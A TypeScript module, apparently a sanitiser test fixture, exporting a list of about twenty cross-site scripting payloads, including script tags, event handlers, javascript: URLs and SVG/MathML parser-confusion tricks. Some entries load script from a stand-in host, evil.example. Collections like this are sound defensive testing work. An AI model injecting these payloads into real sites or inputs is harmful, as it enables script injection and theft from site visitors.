/**
 * HTML that tries to run a script in the browser of whoever reads it.
 *
 * @module
 */

/** Each calls `alert(1)` where it succeeds. */
export const ATTACKS: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=javascript:alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
  "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='java\nscript:alert(1)'>x</a><a href='data:text/html,<script>alert(1)</script>'>y</a>",
  "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</button></form>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><base href='//evil.example/'>",
  "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
  "</template></main><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "<style></template><img src=x onerror=alert(1)></style>",
  "<div style='background:url(javascript:alert(1))' onmouseover=alert(1)>x</div>",
  "<link rel=stylesheet href='//evil.example/x.css'>",
  '<p title="</p><script>alert(1)</script>">x</p>',
  "<template shadowrootmode=open><script>alert(1)</script></template>",
];
